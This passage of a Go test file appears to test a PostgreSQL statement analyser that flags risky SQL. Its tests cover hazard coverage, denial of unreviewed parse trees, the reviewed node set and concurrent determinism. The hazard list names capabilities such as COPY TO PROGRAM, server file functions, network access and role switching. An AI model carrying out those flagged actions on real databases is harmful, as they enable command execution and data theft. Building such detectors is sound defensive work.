// produced by some statement of it.
func TestEveryHazardKind(t *testing.T) {
	seen := map[string]bool{}
	for _, tc := range corpus {
		stmts, err := Analyze(tc.sql)
		if err != nil {
			continue
		}
		for _, h := range stmts[0].Hazards {
			seen[h.Kind] = true
		}
	}
	for _, k := range []string{
		HazardCopyTo, HazardCopyFrom, HazardCopyProgram, HazardCopyFile, HazardSelectInto,
		HazardDoBlock, HazardSetRole, HazardSessionAuthorization, HazardSecuritySetting,
		HazardCustodesSetting, HazardSQLTextFunction, HazardFileFunction, HazardLargeObject,
		HazardNetwork, HazardAdminFunction, HazardCatalogStatistics, HazardWrite, HazardDDL,
		HazardExplain, HazardListenNotify, HazardLock, HazardMaintenance,
	} {
		if !seen[k] {
			t.Errorf("no corpus statement has hazard %q", k)
		}
	}
}

// The grammar cannot produce these trees today; a newer parser or a
// mismatch between the C library and the Go types could. Each must be
// unjudged and of ClassUnknown.
func TestUnreviewedTreesDenied(t *testing.T) {
	node := func(n any) *pg_query.Node {
		switch n := n.(type) {
		case *pg_query.SelectStmt:
			return &pg_query.Node{Node: &pg_query.Node_SelectStmt{SelectStmt: n}}
		case *pg_query.ResTarget:
			return &pg_query.Node{Node: &pg_query.Node_ResTarget{ResTarget: n}}
		case *pg_query.Var:
			return &pg_query.Node{Node: &pg_query.Node_Var{Var: n}}
		case *pg_query.ReturnStmt:
			return &pg_query.Node{Node: &pg_query.Node_ReturnStmt{ReturnStmt: n}}
		}
		panic("unexpected")
	}
	selectOf := func(val *pg_query.Node) *pg_query.Node {
		return node(&pg_query.SelectStmt{TargetList: []*pg_query.Node{node(&pg_query.ResTarget{Val: val})}})
	}

	withUnknownField := &pg_query.ResTarget{}
	raw := protowire.AppendTag(nil, 999, protowire.VarintType)
	withUnknownField.ProtoReflect().SetUnknown(protowire.AppendVarint(raw, 1))

	for name, stmt := range map[string]*pg_query.Node{
		"analysed-tree node": selectOf(node(&pg_query.Var{})),
		"top-level RETURN":   node(&pg_query.ReturnStmt{}),
		"unknown field": node(&pg_query.SelectStmt{
			TargetList: []*pg_query.Node{{Node: &pg_query.Node_ResTarget{ResTarget: withUnknownField}}},
		}),
		"no statement": nil,
	} {
		st := analyzeRaw("x", &pg_query.RawStmt{Stmt: stmt})
		if len(st.Unjudged) == 0 || st.Class != ClassUnknown {
			t.Errorf("%s: Class %q, Unjudged %q; want unknown and a reason", name, st.Class, st.Unjudged)
		}
	}

	// The same SELECT without the odd part is judged: the test can fail.
	if st := analyzeRaw("x", &pg_query.RawStmt{Stmt: selectOf(nil)}); len(st.Unjudged) != 0 || st.Class != ClassRead {
		t.Errorf("plain SELECT: Class %q, Unjudged %q", st.Class, st.Unjudged)
	}
}

func TestKnownNodesAreRawNodes(t *testing.T) {
	// Analysed-tree types must stay out of the reviewed set.
	for _, m := range []interface {
		ProtoReflect() protoreflect.Message
	}{(*pg_query.Var)(nil), (*pg_query.Query)(nil), (*pg_query.FuncExpr)(nil), (*pg_query.SubPlan)(nil), (*pg_query.TargetEntry)(nil)} {
		if knownNodes[m.ProtoReflect().Descriptor().FullName()] {
			t.Errorf("%s is in knownNodes", m.ProtoReflect().Descriptor().Name())
		}
	}
	if !knownNodes["pg_query.SelectStmt"] || !knownNodes["pg_query.FuncCall"] {
		t.Error("knownNodes lacks raw node types")
	}
}

// Analyze is used from every session at once: results must not depend on
// what runs beside it.
func TestConcurrentAnalyze(t *testing.T) {
	want := make([][]*Statement, len(corpus))
	for i, tc := range corpus {
		want[i], _ = Analyze(tc.sql)
	}
	errs := make(chan string, 4)
	for g := 0; g < 4; g++ {
		go func() {
			for i := range corpus {
				j := (i + g*7) % len(corpus)
				got, _ := Analyze(corpus[j].sql)
				if !reflect.DeepEqual(got, want[j]) {
					errs <- corpus[j].sql
					return
				}
			}
			errs <- ""
		}()
	}
	for g := 0; g < 4; g++ {
		if sql := <-errs; sql != "" {
			t.Errorf("concurrent Analyze(%q) differs from a sequential one", sql)
		}
	}
}
